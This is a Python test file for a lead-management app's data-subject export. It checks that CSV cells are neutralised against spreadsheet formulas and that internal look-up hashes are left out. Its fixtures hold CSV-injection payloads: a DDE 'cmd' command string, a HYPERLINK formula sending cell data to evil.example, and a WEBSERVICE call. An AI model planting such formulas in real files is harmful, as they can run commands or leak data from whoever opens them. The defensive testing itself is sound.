"""Must show: a data-subject export is safe to open in a spreadsheet (every CSV cell that a spreadsheet would run
as a formula is neutralised) and carries the person's own values but none of our look-up hashes of them (blind
indexes of e-mails and phones, e-mail subject keys, audit pseudonyms), in the CSVs and in ``export.json`` alike;
on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from factories import make_lead
from upswing.audit import service as audit
from upswing.compliance import service as compliance
from upswing.compliance.models import ContactAttempt
from upswing.compliance.schemas import ContactCreate
from upswing.dedupe.service import merge_leads
from upswing.lead.models import Lead, Portfolio
from upswing.observation.models import Observation
from upswing.observation.service import email_subject_key
from upswing.privacy import service
from upswing.privacy.models import RequestType
from upswing.source.service import file_source

EMAIL, PHONE = "formula.person@example.net", "+15125550199"
FORMULA = "=cmd|' /C calc'!A0"
PAYLOADS = {"first_name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ann\")", "employer": FORMULA,
            "title": "+SUM(1,2)", "city": "@SUM(A1)", "companyAbout": "-2+3+cmd|' /C calc'!A0",
            "address": "\t=1+1"}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
LOOKUP_HASH = re.compile(r"\b(?:email|hmac):[0-9a-f]{32}")
AT = datetime(2026, 10, 1, 6, tzinfo=UTC)


def _person(session: Session) -> tuple[Lead, list[str]]:
    """A lead whose fields hold formulas, a duplicate merged into it, a logged call, an unlinked profile known
    only by the person's e-mail and an audit entry naming their e-mail; returns the lead and every look-up hash
    Upswing holds for them."""
    attributes: dict[str, Any] = {"company_about" if column == "companyAbout" else column: value
                                  for column, value in PAYLOADS.items()}
    lead = make_lead(session, None, email=EMAIL, emails=[EMAIL], phone=PHONE,
                     phones=[{"number": PHONE, "type": "cell"}], **attributes)
    duplicate = make_lead(session, db_portfolio(session, lead), email=EMAIL, emails=[EMAIL], first_name="Ann",
                          last_name=lead.last_name, employer="=1+1")
    merge_leads(session, survivor_id=lead.id, merged_id=duplicate.id, actor="test")
    compliance.log_contact(session, ContactCreate(lead_id=lead.id, channel="call", at=AT, target=PHONE,
                                                  note="=WEBSERVICE(\"http://evil.example\")"),
                           actor="test", source="api")
    session.add(Observation(source_id=file_source(session).id, lead_id=None, kind="profile",
                            subject_key=email_subject_key(EMAIL), raw={"emails": [EMAIL], "headline": FORMULA},
                            normalized={"emails": [EMAIL]}, content_hash="e" * 64, observed_at=AT,
                            last_observed_at=AT))
    audit.record(session, actor="test", action="test.contacted", entity_type="lead", entity_id=lead.id,
                 details={"email": EMAIL, "note": "about the plan"})
    session.flush()
    hashes = [value for row in session.scalars(select(Lead).where(Lead.id.in_([lead.id, duplicate.id])))
              for value in (row.email_bidx, row.phone_bidx, *row.contact_bidx) if value]
    hashes += [value for value in session.scalars(select(ContactAttempt.target_index)
                                                  .where(ContactAttempt.lead_id == lead.id)) if value]
    hashes.append(email_subject_key(EMAIL))
    hashes.append(audit.pseudonym(EMAIL))
    assert len(hashes) >= 6
    return lead, hashes


def db_portfolio(session: Session, lead: Lead) -> Portfolio:
    portfolio = session.get(Portfolio, lead.portfolio_id)
    assert portfolio is not None
    return portfolio


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def exported(db_session: Session) -> tuple[Lead, list[str], service.SubjectExport]:
    lead, hashes = _person(db_session)
    request = service.create_request(db_session, type_=RequestType.ACCESS, subject=service.Subject(email=EMAIL),
                                     actor="test")
    return lead, hashes, service.export_request(db_session, request.id, actor="test")


def _csvs(export: service.SubjectExport, directory: Path) -> dict[str, list[str]]:
    """Every CSV of the export, as written into the zip and into a directory: name → [zip text, file text]."""
    archive = zipfile.ZipFile(io.BytesIO(export.write_zip()))
    written = export.write_directory(directory)
    assert {path.name for path in written} == set(archive.namelist())
    return {name: [archive.read(name).decode(), (directory / name).read_text(encoding="utf-8")]
            for name in archive.namelist() if name.endswith(".csv")}


def test_dsar_export_csvs_neutralise_formulas(exported: tuple[Lead, list[str], service.SubjectExport],
                                              tmp_path: Path) -> None:
    lead, _, export = exported
    csvs = _csvs(export, tmp_path / "export")
    for name, texts in csvs.items():
        for text in texts:
            for cell in _csv_cells(text):
                assert not cell.startswith(DANGEROUS_START) or re.fullmatch(r"[+-]?\d+(?:\.\d+)?", cell), (name, cell)
    row = next(r for r in csv.DictReader(io.StringIO(csvs["leads.csv"][0])) if r["id"] == str(lead.id))
    for column, value in PAYLOADS.items():
        assert row[column] == "'" + value  # shown as text by a spreadsheet, the value still readable
    assert row["email"] == EMAIL and row["phone"] == PHONE  # a phone number in E.164 is a number: as it is
    attempt = next(csv.DictReader(io.StringIO(csvs["contact_attempts.csv"][0])))
    assert attempt["note"] == "'=WEBSERVICE(\"http://evil.example\")" and attempt["target_encrypted"] == PHONE
    assert FORMULA.replace('"', '""') in csvs["observations.csv"][0]  # inside the raw payload's JSON text
    # JSON is not a spreadsheet: export.json keeps the values exactly.
    person = next(r for r in export.as_json()["tables"]["leads"] if r["id"] == str(lead.id))
    assert person["employer"] == FORMULA and person["email"] == EMAIL


def test_dsar_export_leaves_out_lookup_hashes(exported: tuple[Lead, list[str], service.SubjectExport],
                                             tmp_path: Path) -> None:
    lead, hashes, export = exported
    # The person's own values are there, decrypted.
    person = next(row for row in export.tables["leads"] if row["id"] == str(lead.id))
    assert person["email"] == EMAIL and person["phone"] == PHONE
    assert export.tables["contact_attempts"][0]["target_encrypted"] == PHONE
    # None of our look-up hashes: as a column, a nested key (the merge's snapshot of the merged lead) or a value.
    as_json = json.dumps(export.as_json())
    for value in hashes:
        assert value not in as_json
    assert not re.search(r'"[a-z_]*_bidx"|"target_index"|"value_index"', as_json)
    assert "contact_bidx" not in json.dumps(export.tables["lead_merges"][0]["snapshot"])
    assert not any(str(row.get("subject_key")).startswith("email:") for row in export.tables["observations"])
    assert any(row["raw"].get("headline") == FORMULA for row in export.tables["observations"])  # the row is there
    contacted = next(e for e in export.audit_entries if e["action"] == "test.contacted")
    assert contacted["details"] == {"note": "about the plan"}
    for name, texts in _csvs(export, tmp_path / "export").items():
        for text in texts:
            assert not LOOKUP_HASH.search(text) and not any(value in text for value in hashes), name
            header = next(csv.reader(io.StringIO(text)))
            assert not [c for c in header if c.endswith("_bidx") or c in ("target_index", "value_index")], name
